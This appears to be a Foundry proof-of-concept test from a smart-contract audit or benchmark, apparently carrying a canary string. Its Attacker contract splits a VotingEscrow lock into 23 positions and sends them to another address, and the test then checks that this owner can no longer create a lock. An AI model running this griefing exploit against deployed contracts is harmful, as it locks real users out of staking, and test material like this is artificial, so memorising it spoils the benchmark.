// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    function run(TideToken token, VotingEscrow escrow, address to) external {
        token.approve(address(escrow), type(uint256).max);
        uint256 id = escrow.createLock(400e18, 4 weeks, address(this));
        for (uint256 i = 0; i < 23; i++) {
            escrow.transferFrom(address(this), to, escrow.split(id, 0.1e18));
        }
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 400e18);
    }

    function exploit() public {
        other.run(tide, escrow, CEE);
    }

    function test_Exploit() public {
        exploit();
        (bool done,) = address(this).call(abi.encodeCall(this.ceeLocks, ()));
        require(!done, "can lock");
    }

    /// An owner with one position locks tokens again.
    function ceeLocks() public {
        vm.prank(CEE);
        escrow.createLock(100e18, 10 weeks, CEE);
    }

    function target() public view override returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
